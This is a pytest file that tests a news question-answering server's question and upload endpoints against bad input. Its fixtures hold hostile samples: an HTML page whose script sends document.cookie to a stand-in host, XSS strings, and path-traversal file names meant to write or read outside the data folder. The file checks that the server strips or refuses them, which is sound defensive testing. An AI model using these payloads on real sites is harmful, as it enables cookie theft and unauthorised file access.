"""Bad input through the real server's API: every case gets a clear one-line answer or error,
nothing is written outside the data dir, and the server keeps serving.

Questions go to ``/ask``; files go to ``/ingest`` (the API behind the library's upload box).
"""

from __future__ import annotations

import json
import threading
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.reliability.conftest import UPLOAD_FILES, UPLOAD_LIMIT_MB
from tests.ui.conftest import Server

pytestmark = pytest.mark.slow

AMBASSADOR = "Who is Russia's ambassador to the US?"


def _still_serving(client: Any) -> None:
    result = client.predict(question=AMBASSADOR, api_name="/ask")
    assert result["refused"] is False and "Kislyak" in json.dumps(result["citations"])


# -- questions -------------------------------------------------------------------------------

ERRORS = {
    "empty": ("", "the question is empty"),
    "whitespace": ("  \n\t\u00a0\u3000 ", "the question is empty"),
    "100 KB": ("Who is Kerry? " * 7500, "the limit is 2,000"),
    "only emoji": ("🙂🔥🇺🇳", "the question has no words"),
    "only zero-width and bidi": ("\u200b\u202e\u2066", "the question is empty"),
}

ANSWERED = {  # answered or refused, never an error
    "control characters": "Who is Kerry?\x00\x07\x1b[31m\x9b",
    "Russian": "Кто посол России в США?",
    "Chinese": "谁是俄罗斯驻美国大使？",
    "Arabic": "من هو سفير روسيا في الولايات المتحدة؟",
    "HTML and script": "<script>alert(1)</script><iframe src=x></iframe> Who is Kislyak?",
    "bidi override": "\u202eWho is Russia's ambassador to the US?",
}


@pytest.mark.parametrize("case", list(ERRORS))
def test_bad_question_is_a_one_line_error(rclient: Any, case: str) -> None:
    from gradio_client.exceptions import AppError

    question, message = ERRORS[case]
    with pytest.raises(AppError) as err:
        rclient.predict(question=question, api_name="/ask")
    assert message in str(err.value) and "\n" not in str(err.value)


@pytest.mark.parametrize("case", list(ANSWERED))
def test_odd_question_is_answered_or_refused(rclient: Any, case: str) -> None:
    result = rclient.predict(question=ANSWERED[case], api_name="/ask")
    assert isinstance(result["refused"], bool) and result["answer"]
    assert not any(c in result["question"] for c in "\x00\x07\x1b\x9b\u202e")
    if case == "HTML and script":  # kept as text (the UI escapes it: tests/ui/test_views.py)
        assert result["question"].startswith("<script>alert(1)</script>")
        assert "<script>" not in result["answer"]
    if case == "bidi override":
        assert result["refused"] is False


def _raw_ask(server: Server, body: bytes) -> tuple[int, str]:
    """POST /ask as raw bytes (what gradio_client cannot send) and read the SSE result."""
    with httpx.Client(base_url=server.url, timeout=30) as http:
        posted = http.post(
            "/gradio_api/call/ask", content=body, headers={"content-type": "application/json"}
        )
        if posted.status_code != 200:
            return posted.status_code, posted.text
        event = posted.json()["event_id"]
        return 200, http.get(f"/gradio_api/call/ask/{event}").text


def test_invalid_surrogates_and_invalid_utf8_bodies(rserver: Server, rclient: Any) -> None:
    surrogates = json.dumps({"data": ["Kerry \ud800 Lavrov \udfff Munich?", None, None, None]})
    status, text = _raw_ask(rserver, surrogates.encode())
    assert status == 200 and "event: complete" in text and "Munich" in text
    status, text = _raw_ask(rserver, b'{"data": ["Who is \xff\xfe Kerry?", null, null, null]}')
    assert status == 400 and "error" in text.lower()
    _still_serving(rclient)


# -- files -----------------------------------------------------------------------------------

HTML = """<html><head><title>Tartus harbour reopens</title>
<script>fetch("http://evil.example/steal?c=" + document.cookie)</script></head>
<body><article><h1>Tartus harbour reopens</h1>
<p>The harbour in Tartus reopened on Monday after two months of repairs, officials said.</p>
<iframe src="http://evil.example/frame"></iframe>
<p>Ships carrying grain were expected to return within a week, the port authority said.</p>
<script>alert('xss')</script>
<p onclick="alert(1)">Fishermen said their catch would reach markets again by Friday.</p>
</article></body></html>
"""

JSONL = "\n".join(
    [
        json.dumps({"id": "g1", "title": "Carrowick ferry returns", "body": "The Carrowick ferry "
                    "resumed service on Sunday with a new captain, Petra Lunn."}),
        "{broken json",
        '["not", "an", "object"]',
        json.dumps({"id": "g4", "title": "No body here"}),
        json.dumps({"id": "g5", "title": "Dunmere market opens", "body": "The Dunmere night "
                    "market opened on Friday with forty stalls selling fish and bread."}),
    ]
) + "\n"  # fmt: skip


def _files(folder: Path) -> list[Path]:
    folder.mkdir(parents=True, exist_ok=True)
    specs: dict[str, bytes] = {
        "empty.txt": b"",
        "image.txt": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR binary",
        "run.sh": b"#!/bin/sh\necho hi\n",
        "latin1.txt": "Café story\n\nAccented body.".encode("latin-1"),
        "page.html": HTML.encode(),
        "feed.jsonl": JSONL.encode(),
    }
    for name, data in specs.items():
        (folder / name).write_bytes(data)
    return [folder / name for name in specs]


def test_upload_matrix(rclient: Any, rserver: Server, tmp_path: Path) -> None:
    from gradio_client import handle_file

    results = rclient.predict(
        files=[handle_file(str(p)) for p in _files(tmp_path)], api_name="/ingest"
    )
    got = {r["file"]: (r["status"], r["detail"]) for r in results}
    assert all("\n" not in r["detail"] for r in results)
    assert got["empty.txt"] == ("skipped", "empty file")
    assert got["image.txt"] == ("skipped", "binary file, not text")
    assert got["run.sh"][0] == "skipped" and "unsupported file type" in got["run.sh"][1]
    assert got["latin1.txt"][0] == "skipped" and "not valid UTF-8" in got["latin1.txt"][1]
    assert got["page.html"][0] == "added"
    assert got["feed.jsonl:2"] == ("skipped", got["feed.jsonl:2"][1])  # line numbers reported
    assert "not valid JSON" in got["feed.jsonl:2"][1]
    assert "not a JSON object" in got["feed.jsonl:3"][1]
    assert "body" in got["feed.jsonl:4"][1]
    assert got["feed.jsonl#g1"][0] == got["feed.jsonl#g5"][0] == "added"  # good lines kept

    # The HTML's text is answerable; its scripts and iframes never made it into the store.
    answer = rclient.predict(question="When did the Tartus harbour reopen?", api_name="/ask")
    assert answer["refused"] is False and "Monday" in answer["answer"]
    stored = json.dumps(answer["retrieved"])
    for bad in ("<script", "alert(", "evil.example", "document.cookie", "iframe", "onclick"):
        assert bad not in stored
    assert (
        rclient.predict(question="Who captains the Carrowick ferry?", api_name="/ask")["refused"]
        is False
    )
    uploads = rserver.data_dir / "uploads"
    assert sorted(p.name for p in uploads.iterdir()) == ["feed.jsonl", "page.html"]
    _still_serving(rclient)


def test_too_many_files_in_one_upload(rclient: Any, tmp_path: Path) -> None:
    from gradio_client import handle_file

    paths = []
    for i in range(UPLOAD_FILES + 1):
        path = tmp_path / f"note{i}.txt"
        path.write_text(f"Note {i} about Glenbrook\n\nGlenbrook note number {i}.", "utf-8")
        paths.append(path)
    results = rclient.predict(files=[handle_file(str(p)) for p in paths], api_name="/ingest")
    skipped = [r for r in results if r["status"] == "skipped"]
    assert len(skipped) == 1 and f"limit of {UPLOAD_FILES} files" in skipped[0]["detail"]
    assert sum(r["status"] == "added" for r in results) == UPLOAD_FILES


def test_file_over_the_size_limit(rclient: Any, rserver: Server, tmp_path: Path) -> None:
    """Gradio enforces NEWSDESK_MAX_UPLOAD_MB before our code (index/uploads.py checks again)."""
    from gradio_client import handle_file

    big = tmp_path / "too-big.txt"
    big.write_bytes(b"Big title\n\n" + b"word " * int(UPLOAD_LIMIT_MB * 1e6 / 5 * 1.2))
    with pytest.raises(ValueError, match="exceeds the maximum file size of 50000 bytes"):
        rclient.predict(files=[handle_file(str(big))], api_name="/ingest")
    posted = httpx.post(
        rserver.url + "/gradio_api/upload",
        files=[("files", ("too-big.txt", big.read_bytes(), "text/plain"))],
        timeout=30,
    )
    assert posted.status_code == 413 and "maximum allowed size of 50000 bytes" in posted.text
    _still_serving(rclient)


def _upload_raw(server: Server, files: dict[str, bytes]) -> list[str]:
    """Upload through Gradio's upload route with hostile file names; returns server paths."""
    posted = httpx.post(
        server.url + "/gradio_api/upload",
        files=[("files", (name, body, "text/plain")) for name, body in files.items()],
        timeout=30,
    )
    posted.raise_for_status()
    return list(posted.json())


def _file_data(path: str, name: str) -> dict[str, Any]:
    return {"path": path, "orig_name": name, "meta": {"_type": "gradio.FileData"}}


def _raw_ingest(server: Server, files: list[dict[str, Any]]) -> str:
    """Call /ingest with FileData as given (gradio_client would upload local paths itself)."""
    with httpx.Client(base_url=server.url, timeout=60) as http:
        posted = http.post("/gradio_api/call/ingest", json={"data": [files]})
        posted.raise_for_status()
        return http.get(f"/gradio_api/call/ingest/{posted.json()['event_id']}").text


def test_hostile_names_never_write_outside_the_data_dir(rserver: Server) -> None:
    names = ["../evil.txt", "/abs/evil2.txt", "..\\..\\evil3.txt", "../../../tmp/evil4.txt"]
    files = {
        name: f"Evil title {i}\n\nThe Ironvale mayor resigned {i} times, said Evil Corp.".encode()
        for i, name in enumerate(names)
    }
    before = set(Path("/tmp").glob("evil*")) | set(Path("/").glob("evil*"))
    paths = _upload_raw(rserver, files)
    text = _raw_ingest(rserver, [_file_data(p, n) for p, n in zip(paths, names, strict=True)])
    assert "event: complete" in text, text
    results = json.loads(text.split("data:", 1)[1])[0]
    assert [r["status"] for r in results] == ["added"] * 4, results
    uploads = (rserver.data_dir / "uploads").resolve()
    for r in results:
        assert "/" not in r["file"] and "\\" not in r["file"] and ".." not in r["file"]
        assert (uploads / r["file"]).is_file()
    after = set(Path("/tmp").glob("evil*")) | set(Path("/").glob("evil*"))
    assert after == before and not Path("/abs").exists()
    assert not list(rserver.data_dir.parent.glob("evil*"))


def test_files_outside_the_upload_folder_are_never_read(
    rclient: Any, rserver: Server, tmp_path: Path
) -> None:
    """An API client must not make the server ingest (and then reveal) its own files: Gradio
    refuses paths outside its upload folder, and index/uploads.py checks again."""
    from index.settings import Settings
    from index.uploads import save_uploads

    private = tmp_path / "private-notes.txt"
    private.write_text("Private notes\n\nThe vault code of Kestrel Point is 4417.", "utf-8")
    sneaky = _upload_raw(rserver, {"x.txt": b"x"})[0] + "/../../../.." + str(private)
    for path in (str(private), sneaky):
        text = _raw_ingest(rserver, [_file_data(path, "notes.txt")])
        assert "event: error" in text and "4417" not in text
    answer = rclient.predict(question="What is the vault code of Kestrel Point?", api_name="/ask")
    assert answer["refused"] is True and "4417" not in json.dumps(answer)

    # the second line of defence, on its own
    settings = Settings(data_dir=tmp_path / "data")
    root = tmp_path / "gradio-uploads"
    (root / "abc").mkdir(parents=True)
    inside = root / "abc" / "ok.txt"
    inside.write_text("Fine\n\nFine text.", "utf-8")
    escape = root / "abc" / ".." / ".." / private.name
    saved, rejected = save_uploads([private, escape, inside], settings, allowed_roots=[root])
    assert [name for name, _ in saved] == ["ok.txt"]
    assert [r["detail"] for r in rejected] == ["not a file uploaded to this server"] * 2


def test_same_file_twice_at_once(rserver: Server, tmp_path: Path) -> None:
    from gradio_client import Client, handle_file

    path = tmp_path / "farrowgate.txt"
    path.write_text(
        "Farrowgate bridge closes\n\nThe Farrowgate bridge closed on Wednesday for repairs "
        "that engineer Tilda Marsh said would take nine weeks.\n",
        "utf-8",
    )
    copy = tmp_path / "copy" / "farrowgate-copy.txt"
    copy.parent.mkdir()
    copy.write_bytes(path.read_bytes())
    results: list[list[dict[str, str]]] = []

    def upload(p: Path) -> None:
        client = Client(rserver.url, verbose=False)
        results.append(client.predict(files=[handle_file(str(p))], api_name="/ingest"))

    threads = [threading.Thread(target=upload, args=(p,)) for p in (path, path, copy)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=120)
    statuses = sorted(r[0]["status"] for r in results)
    assert statuses == ["added", "unchanged", "unchanged"], results

    from gradio_client import Client as C

    answer = C(rserver.url, verbose=False).predict(
        question="How long will the Farrowgate bridge repairs take?", top_k=8, api_name="/ask"
    )
    bridge = [p for p in answer["retrieved"] if "Farrowgate" in p["title"]]
    assert len(bridge) == 1  # one article, one chunk: no duplicate
